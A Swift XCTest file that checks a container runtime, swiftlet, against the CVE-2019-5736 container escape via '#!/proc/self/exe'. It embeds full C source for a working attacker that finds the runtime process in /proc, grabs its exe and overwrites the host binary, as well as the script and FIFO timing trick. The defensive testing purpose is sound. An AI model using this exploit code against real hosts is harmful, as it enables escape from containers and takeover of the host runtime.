import Foundation
import TestSupport
import XCTest

/// CVE-2019-5736 through `#!/proc/self/exe`: whenever swiftlet execve()s a path inside the container
/// and that path is a script starting `#!/proc/self/exe`, the kernel starts swiftlet's own binary in
/// the container. A container process opens /proc/<pid>/exe, waits until the binary is no longer busy
/// and reopens it for writing. swiftlet re-executes itself from a read-only clone of its binary
/// (Sources/CExeSeal), so the write fails and the host binary stays as it was.
///
/// Each test runs a private COPY of the binary under test (it may be overwritten) and checks its
/// sha256. To make the attack deterministic the script's arguments make the started binary block:
/// `#!/proc/self/exe --criu` turns `/evil create --bundle /b x` into
/// `swiftlet --criu /evil create --bundle /b x`, which waits reading /b/config.json, a FIFO the
/// attacker opens only once it holds the O_PATH fd of the process's exe.
final class ExeSealTests: MonitorTestCase {
    /// Through `swiftlet exec`.
    func testExecOfProcSelfExeScriptCannotOverwriteBinary() throws {
        let a = try Attack(self)
        let id = try a.startAttacker()
        let r = a.swiftlet(["exec", id, "/evil", "create", "--bundle", "/b", "x"], timeout: 120)
        XCTAssertNotEqual(r.status, 0, "the blocked swiftlet in the container was fed garbage: \(r)")
        a.assertBinaryUnchanged()
    }

    /// Through an exec probe of the monitor (which runs `swiftlet exec` every second).
    func testExecProbeOfProcSelfExeScriptCannotOverwriteBinary() throws {
        let a = try Attack(self)
        let id = "m\(UInt32.random(in: 0...UInt32.max))"
        let dir = try makeTempDir(prefix: "swiftlet-exeseal-monitor.")
        for sub in ["bundle", "exits", "persist"] {
            try FileManager.default.createDirectory(atPath: dir + "/" + sub, withIntermediateDirectories: true)
        }
        try writeConfigThrowing(a.config(args: a.attackerArgs), to: dir + "/bundle")
        let (launch, line) = runMonitor(
            [
                "--api-version", "1", "-c", id, "-u", id + "-uuid", "-n", id, "-r", a.binary,
                "-b", dir + "/bundle", "-p", dir + "/ctr.pid", "-P", dir + "/mon.pid",
                "--exit-dir", dir + "/exits", "--persist-dir", dir + "/persist",
                "-l", "k8s-file:" + dir + "/ctr.log", "--runtime-arg", "--root=" + root.path,
            ],
            dir: dir)
        launched.append(
            MonitoredContainer(
                id: id, dir: dir, runtime: .swiftlet, runtimeRoot: root.path, sync: launch, syncLine: line))
        XCTAssertEqual(launch.status, 0, "monitor: \(launch), sync: \(line)")
        XCTAssertEqual(a.swiftlet(["start", id]).status, 0)
        a.waitScanning()
        let api = try ControlClient(dir + "/bundle/monitor.sock")
        let added = api.call(
            "addProbe",
            [
                "name": "evil", "exec": ["command": ["/evil", "create", "--bundle", "/b", "x"]],
                "periodSeconds": 1, "timeoutSeconds": 120,
            ])
        XCTAssertNotNil(added["result"], "\(added)")
        a.assertBinaryUnchanged()  // the attacker is the container's init: its exit ends the container
    }

    /// Through a startContainer hook (run by init inside the container). The attacker runs in another
    /// container whose PID namespace the hooked container joins: a failed hook ends the container.
    func testStartContainerHookOfProcSelfExeScriptCannotOverwriteBinary() throws {
        let a = try Attack(self)
        let pid = try a.initPid(a.startAttacker())
        let b = try bundle { spec in
            spec = a.config(args: ["true"], joiningPidNamespaceOf: pid)
            spec["hooks"] = [
                "startContainer": [["path": "/evil", "args": ["/evil", "create", "--bundle", "/b", "x"]]]
            ]
        }
        XCTAssertEqual(a.swiftlet(["create", "--bundle", b, "hooked"]).status, 0)
        _ = a.swiftlet(["start", "hooked"], timeout: 120)  // the hook, fed garbage, fails; init then exits
        a.assertBinaryUnchanged()
    }

    /// Through the entrypoint of a container that shares another container's PID namespace.
    func testEntrypointOfProcSelfExeScriptInSharedPidNamespaceCannotOverwriteBinary() throws {
        let a = try Attack(self)
        let pid = try a.initPid(a.startAttacker())
        let b = try bundle {
            $0 = a.config(args: ["/evil", "create", "--bundle", "/b", "x"], joiningPidNamespaceOf: pid)
        }
        XCTAssertEqual(a.swiftlet(["create", "--bundle", b, "victim"]).status, 0)
        _ = a.swiftlet(["start", "victim"])  // runc refuses to execute the script (no attack possible)
        a.assertBinaryUnchanged()
    }
}

extension ExeSealTests {
    /// The memfd fallback (open_tree refused, as without CAP_SYS_ADMIN over the mount namespace; here
    /// injected with strace): the attack through `swiftlet exec` finds a sealed copy it cannot write.
    func testExecAttackWithSealedMemfdFallback() throws {
        try XCTSkipUnless(FileManager.default.isExecutableFile(atPath: "/usr/bin/strace"), "strace not installed")
        try XCTSkipUnless(Attack.isSwiftlet, "swiftlet's own fallback (\(Runtime.binary) is another runtime)")
        let a = try Attack(self)
        let id = try a.startAttacker()
        var env = ProcessInfo.processInfo.environment
        env[String(tag.split(separator: "=")[0])] = String(tag.split(separator: "=")[1])
        let r = runProgram(
            "/usr/bin/strace",
            [
                "-qq", "-o", "/dev/null", "-e", "trace=open_tree", "-e", "inject=open_tree:error=EPERM",
                a.binary, "--root", root.path, "exec", id, "/evil", "create", "--bundle", "/b", "x",
            ],
            timeout: 120, environment: env)
        XCTAssertNotEqual(r.status, 0, "\(r)")
        a.assertBinaryUnchanged()
        XCTAssertTrue(
            a.reportText().contains("denied: write: Operation not permitted"), "the memfd is sealed: \(a.reportText())")
    }

    /// Only the verbs that run container code pay the re-exec: a foreground `run` (behind global
    /// options with values) runs from the read-only clone, `events` from the binary as it is.
    func testOnlyVerbsThatRunContainerCodeRunSealed() throws {
        try XCTSkipUnless(Attack.isSwiftlet, "swiftlet's verb selection (\(Runtime.binary) is another runtime)")
        let b = try bundle(ContainerTestCase.args(["sleep", "100"]))
        let dir = try makeTempDir(prefix: "swiftlet-exeseal-verbs.")
        let run = try background(
            ["--log", dir + "/log", "--root", root.path, "run", "--bundle", b, "sealed"], output: dir + "/run.out")
        defer { kill(run, SIGKILL) }
        XCTAssertTrue(
            waitUntil(timeout: 30) { self.sl(["state", "sealed"]).stdout.contains("\"running\"") }, "run did not start")
        XCTAssertEqual(readOnlyExe(run), true, "run's /proc/PID/exe is on a read-only mount")
        let events = try background(
            ["-root=" + root.path, "events", "--interval", "1s", "sealed"], output: dir + "/events.out")
        defer { kill(events, SIGKILL) }
        XCTAssertTrue(
            waitUntil(timeout: 30) {
                ((try? String(contentsOfFile: dir + "/events.out", encoding: .utf8)) ?? "").contains("stats")
            },
            "events printed nothing")
        XCTAssertEqual(readOnlyExe(events), false, "events runs the binary as installed")
        XCTAssertEqual(sl(["delete", "--force", "sealed"]).status, 0)
    }

    /// Starts swiftlet in the background with this test's tag, stdout to `output`.
    func background(_ args: [String], output: String) throws -> Int32 {
        FileManager.default.createFile(atPath: output, contents: nil)
        let p = Process()
        p.executableURL = URL(fileURLWithPath: Runtime.binary)
        p.arguments = args
        var env = ProcessInfo.processInfo.environment
        env[String(tag.split(separator: "=")[0])] = String(tag.split(separator: "=")[1])
        p.environment = env
        p.standardOutput = FileHandle(forWritingAtPath: output)
        p.standardError = FileHandle.nullDevice
        try p.run()
        return p.processIdentifier
    }

    /// Whether /proc/PID/exe lies on a read-only mount (nil: cannot tell).
    func readOnlyExe(_ pid: Int32) -> Bool? {
        let fd = open("/proc/\(pid)/exe", O_RDONLY | O_CLOEXEC)
        guard fd >= 0 else { return nil }
        defer { close(fd) }
        var st = statvfs()
        guard fstatvfs(fd, &st) == 0 else { return nil }
        return st.f_flag & UInt(ST_RDONLY) != 0
    }
}

/// One attack: a private rootfs holding the attacker, `/evil` and the FIFO; a private copy of swiftlet.
struct Attack {
    let test: ExeSealTests
    let rootfs: String
    let binary: String
    let hashBefore: String
    let attackerArgs = ["/attacker", "/report", "/b/config.json"]
    var report: String { rootfs + "/report" }

    init(_ test: ExeSealTests) throws {
        self.test = test
        rootfs = try test.privateRootfs()
        let src = rootfs + "/attacker.c"
        try attackerSource.write(toFile: src, atomically: true, encoding: .utf8)
        let cc = runProgram("/usr/bin/cc", ["-static", "-O1", "-o", rootfs + "/attacker", src])
        guard cc.status == 0 else { throw TestSupportError("building the attacker: \(cc)") }
        try "#!/proc/self/exe --criu\n".write(toFile: rootfs + "/evil", atomically: true, encoding: .utf8)
        chmod(rootfs + "/evil", 0o755)
        try FileManager.default.createDirectory(atPath: rootfs + "/b", withIntermediateDirectories: true)
        guard mkfifo(rootfs + "/b/config.json", 0o644) == 0 else { throw TestSupportError("mkfifo: \(errno)") }
        let dir = try makeTempDir(prefix: "swiftlet-exeseal-bin.")
        binary = dir + "/swiftlet"
        let cp = runProgram("/bin/cp", [Runtime.binary, binary])
        guard cp.status == 0 else { throw TestSupportError("copying \(Runtime.binary): \(cp)") }
        hashBefore = Attack.sha256(binary)
        test.addTeardownBlock { try? FileManager.default.removeItem(atPath: dir) }
    }

    /// runc and crun defend differently: runc 1.1.5 and 1.3.6 refuse to start the script at all (`exec
    /// /evil: no such file or directory`), so their attacker never sees a target; only the hash counts.
    static let isSwiftlet = runProgram(Runtime.binary, ["--version"]).stdout.hasPrefix("swiftlet")

    static func sha256(_ path: String) -> String {
        String(runProgram("/usr/bin/sha256sum", [path]).stdout.prefix(64))
    }

    /// Runs the private copy of swiftlet with the test's --root and tag.
    func swiftlet(_ args: [String], timeout: Double = 30) -> RunResult {
        var env = ProcessInfo.processInfo.environment
        let kv = test.tag.split(separator: "=", maxSplits: 1)
        env[String(kv[0])] = String(kv[1])
        return runProgram(binary, ["--root", test.root.path] + args, timeout: timeout, environment: env)
    }

    /// A config for the attack rootfs (writable: the attacker replaces the FIFO and writes its report).
    func config(args: [String], joiningPidNamespaceOf pid: Int32? = nil) -> [String: Any] {
        var spec = defaultConfig(rootfs: rootfs)
        spec["root"] = ["path": rootfs, "readonly": false]
        ContainerTestCase.args(args)(&spec)
        if let pid {
            var linux = spec[dict: "linux"]
            linux["namespaces"] = (linux["namespaces"] as? [[String: Any]] ?? []).map { ns in
                ns["type"] as? String == "pid" ? ["type": "pid", "path": "/proc/\(pid)/ns/pid"] : ns
            }
            spec["linux"] = linux
        }
        return spec
    }

    /// Runs the attacker as a container of its own and waits until it is scanning /proc.
    func startAttacker() throws -> String {
        let b = try test.bundle { $0 = self.config(args: self.attackerArgs) }
        let r = swiftlet(["run", "-d", "--bundle", b, "attacker"])
        guard r.status == 0 else { throw TestSupportError("starting the attacker: \(r)") }
        waitScanning()
        return "attacker"
    }

    func waitScanning() {
        XCTAssertTrue(
            waitUntil(timeout: 30) { self.reportText().contains("scanning") }, "attacker did not start: \(reportText())"
        )
    }

    func initPid(_ id: String) throws -> Int32 {
        let state = swiftlet(["state", id])
        let json = try JSONSerialization.jsonObject(with: Data(state.stdout.utf8)) as? [String: Any]
        guard let pid = json?["pid"] as? Int else { throw TestSupportError("state \(id): \(state)") }
        return Int32(pid)
    }

    func reportText() -> String { (try? String(contentsOfFile: report, encoding: .utf8)) ?? "" }

    /// Waits for the attacker's verdict: it must have caught the process started through
    /// `#!/proc/self/exe` and failed to write its binary, which is unchanged.
    func assertBinaryUnchanged(file: StaticString = #filePath, line: UInt = #line) {
        let finished = waitUntil(timeout: Attack.isSwiftlet ? 150 : 15) {
            ["wrote", "denied", "no target", "failed"].contains { self.reportText().contains($0) }
        }
        let text = reportText()
        XCTAssertFalse(text.contains("wrote"), "the attacker wrote the runtime binary: \(text)", file: file, line: line)
        if Attack.isSwiftlet {
            XCTAssertTrue(finished, "attacker did not finish: \(text)", file: file, line: line)
            XCTAssertTrue(
                text.contains("target "), "the attacker never caught swiftlet in the container: \(text)", file: file,
                line: line)
            XCTAssertTrue(text.contains("denied"), text, file: file, line: line)
        }
        XCTAssertEqual(Attack.sha256(binary), hashBefore, "the runtime binary changed: \(text)", file: file, line: line)
    }
}

/// The attacker (static, run inside the container): finds the process started as "/proc/self/exe",
/// holds an O_PATH fd of its exe, releases it (writes its FIFO, then replaces the FIFO by a regular
/// file so later runs do not block), and reopens the exe for writing until it is no longer busy
/// (ETXTBSY); it appends (the ELF stays runnable for clean-up) and reports to REPORT.
private let attackerSource = #"""
    #define _GNU_SOURCE
    #include <dirent.h>
    #include <errno.h>
    #include <fcntl.h>
    #include <stdarg.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/stat.h>
    #include <time.h>
    #include <unistd.h>

    static FILE *report;
    static void say(const char *fmt, ...) {
        va_list ap; va_start(ap, fmt); vfprintf(report, fmt, ap); va_end(ap); fflush(report);
    }
    static time_t deadline;
    static int target(void) {
        DIR *d = opendir("/proc");
        struct dirent *e; int found = 0;
        while (d && !found && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char path[64], buf[32] = {0};
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            if (read(fd, buf, sizeof buf - 1) > 0 && strcmp(buf, "/proc/self/exe") == 0) found = pid;
            close(fd);
        }
        if (d) closedir(d);
        return found;
    }
    int main(int argc, char **argv) {
        if (argc < 3 || !(report = fopen(argv[1], "w"))) return 2;
        say("scanning\n");
        deadline = time(NULL) + 120;
        int exe = -1, pid = 0;
        while (exe < 0) {
            if (time(NULL) > deadline) { say("no target\n"); return 1; }
            pid = target();
            if (!pid) { usleep(2000); continue; }
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            exe = open(path, O_PATH);
        }
        say("target %d\n", pid);
        int fifo = open(argv[2], O_WRONLY);
        if (fifo >= 0) { (void)write(fifo, "x", 1); close(fifo); }
        unlink(argv[2]);
        close(open(argv[2], O_WRONLY | O_CREAT, 0644));
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
        for (;;) {
            int w = open(self, O_WRONLY);
            if (w >= 0) {
                struct stat st;
                if (fstat(w, &st) == 0 && pwrite(w, "PWNED", 5, st.st_size) == 5) { say("wrote\n"); return 0; }
                say("denied: write: %s\n", strerror(errno));
                return 0;
            }
            if (errno != ETXTBSY) { say("denied: open: %s\n", strerror(errno)); return 0; }
            if (time(NULL) > deadline) { say("failed: still busy\n"); return 1; }
            usleep(10000);
        }
    }
    """#
